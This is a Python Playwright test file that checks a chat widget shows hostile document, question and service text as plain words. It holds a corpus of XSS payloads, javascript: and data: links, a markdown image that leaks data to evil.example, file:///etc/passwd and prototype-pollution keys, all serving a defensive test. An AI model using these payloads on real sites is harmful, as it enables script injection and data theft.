"""Whatever a document, a question or the service says is shown as text: it makes no element, no request, no script."""

from __future__ import annotations

from copy import deepcopy
from typing import Any

import pytest
from playwright.sync_api import Page as Tab
from playwright.sync_api import expect

from tests.browser.conftest import Mount
from tests.browser.guard import Guard
from tests.browser.made import Whole, each_text, eventful, saying
from tests.browser.recording import answer, stream_of, written
from tests.browser.scripted import Refusal, Scripted, Stream
from tests.browser.widget import Widget

CORPUS = {
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "script": "</script><script>alert(1)</script>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>",
    "form": "<form action=//evil.example><button>Aanmelden</button></form>",
    "ping": "<a href=//evil.example ping=//evil.example>klik</a>",
    "srcset": "<picture><source srcset=//evil.example/1.png><img src=//evil.example/2.png></picture>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "link": "[lees](javascript:alert(1)) [x](//evil.example) <javascript:alert(1)>",
    "coded link": "[lees](%6aavascript:alert(1)) [x](java\tscript:alert(1)) [y](data:text/html,<script>alert(1)//)",
    "markdown image": "![x](https://evil.example/?q=geheim) ![y](//evil.example/y.png)",
    "event": "tekst\n\nevent: done\ndata: {}\n\nmeer",
    "entity": "&lt;img src=x onerror=alert(1)&gt; &#x6A;avascript:",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "direction": "tekst \u202e\u2066 omgekeerd \u2069",
    "nul": "voor\u0000na \u001b[31mrood",
}
_ELEMENTS = """(element) => {
  const own = new Set(`article aside blockquote bdi br button cite code dd details div dl dt em figure footer
    form h2 h3 h4 header label li nav ol p pre section slot small span strong summary svg path circle rect line polyline
    table tbody td textarea input th thead time tr ul a q mark hr dialog fieldset legend`.split(/\\s+/));
  const found = [];
  for (const one of element.shadowRoot.querySelectorAll("*")) {
    if (!own.has(one.localName)) found.push(one.localName);
    if (one.localName === "form" && one.hasAttribute("action")) found.push("form action");
    for (const {name, value} of one.attributes) {
      // The widget itself says where its pop-over stands and how high its field is.
      if (name === "style" && !/popover|input/.test(one.getAttribute("part"))) found.push(`${one.localName} style`);
      if (name.startsWith("on") || ["src", "srcset", "ping", "action", "formaction"].includes(name))
        found.push(`${one.localName} ${name}`);
      const web = () => ["http:", "https:", "mailto:"].includes(new URL(value, "x:").protocol);
      if (["href", "xlink:href"].includes(name) && !web())
        found.push(`${one.localName} ${name}=${value}`);
      if (name === "href" && new URL(value).hostname.endsWith("evil.example")) found.push(value);
    }
  }
  return found;
}"""


def strange(widget: Widget) -> Any:
    """Elements and attributes that the widget itself has no use for, and links to elsewhere."""
    return widget.call(_ELEMENTS)


@pytest.fixture(autouse=True)
def no_dialog(page: Tab, guard: Guard) -> None:
    """An alert is a failure, not a test that hangs."""

    def seen(dialog: Any) -> None:
        guard.seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", seen)


def played(mount: Mount, scripted: Scripted, whole: Whole) -> Widget:
    scripted.script.play(Stream(stream_of(whole)))
    widget = mount().open().ask()
    widget.answered()
    return widget


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_a_hostile_quotation_is_read_as_it_stands(mount: Mount, scripted: Scripted, text: str) -> None:
    widget = played(mount, scripted, saying(text))
    widget.part("marker").first.click()
    expect(widget.part("popover")).to_be_visible()
    shown = [widget.part(part).first.text_content() or "" for part in ("answer", "popover")]
    wanted = "".join(text.split()).replace("\0", "")
    assert [wanted in "".join(one.replace("·", "").split()).replace("\0", "") for one in shown] == [True, True]
    assert strange(widget) == []


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_hostile_words_in_every_field_stay_words(mount: Mount, scripted: Scripted, text: str) -> None:
    widget = played(mount, scripted, each_text(eventful(), lambda said: f"{text} {said}"))
    for marker in widget.part("marker").all():
        marker.click()
        expect(widget.part("popover")).to_be_visible()
        assert strange(widget) == []
        widget.page.keyboard.press("Escape")


@pytest.mark.parametrize("text", CORPUS.values(), ids=CORPUS)
def test_hostile_suggestions_questions_and_problems_stay_words(
    mount: Mount, scripted: Scripted, guard: Guard, text: str
) -> None:
    guard.allow("status of 422")
    scripted.script.suggestions = [text]
    scripted.script.play(Refusal(422, text, kind=text))
    widget = mount().open()
    expect(widget.part("suggestion")).to_have_count(1)
    assert strange(widget) == []
    widget.part("suggestion").click()
    expect(widget.part("notice")).to_be_visible()
    assert strange(widget) == []


ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "%6aavascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
    "//evil.example/view", "https://evil.example/view", "\\\\evil.example", "/\\evil.example",
    "@evil.example/", ".evil.example/",
)  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_link_to_the_source_never_leaves_the_service(mount: Mount, scripted: Scripted, address: str) -> None:
    whole = deepcopy(answer("laptop-nl"))
    whole["citations"][0]["view_url"] = address
    widget = played(mount, scripted, whole)
    widget.part("marker").first.click()
    expect(widget.part("popover")).to_be_visible()
    assert strange(widget) == []
    links = widget.call("(element) => [...element.shadowRoot.querySelectorAll('a[href]')].map((one) => one.href)")
    assert [one for one in links if not one.startswith(scripted.url + "/")] == []


def test_keys_that_pollute_prototypes_are_inert(mount: Mount, scripted: Scripted) -> None:
    polluting = b'{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, '
    pieces = [one.replace(b"data: {", b"data: " + polluting, 1) for one in stream_of(answer("laptop-nl"))]
    scripted.script.play(Stream([piece.replace(polluting + b"}", polluting[:-2] + b"}") for piece in pieces]))
    widget = mount().open().ask()
    widget.answered()
    assert widget.page.evaluate("() => [({}).polluted, [].polluted, 'x'.polluted]") == [None, None, None]


def test_an_event_name_that_is_a_property_of_every_object_is_an_unknown_event(mount: Mount, scripted: Scripted) -> None:
    names = ["__proto__", "constructor", "toString", "hasOwnProperty", "__defineGetter__"]
    scripted.script.play(Stream([*written([(name, {}) for name in names]), *stream_of(answer("laptop-nl"))]))
    expect(mount().open().ask().answered()).to_contain_text("4 uur")
